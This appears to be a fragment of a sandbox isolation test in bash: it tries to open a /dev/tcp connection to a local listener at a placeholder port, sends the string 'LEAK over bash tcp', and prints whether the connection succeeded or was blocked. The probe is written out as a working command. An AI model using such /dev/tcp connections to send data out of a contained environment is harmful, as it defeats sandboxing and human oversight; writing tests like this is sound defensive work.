# Hostile: bash's /dev/tcp to a listener on the host's 127.0.0.1.
if exec 3<>/dev/tcp/127.0.0.1/@TCP_PORT@; then
  echo "LEAK over bash tcp" >&3
  echo "tcp: connected"
else
  echo "tcp: blocked"
fi
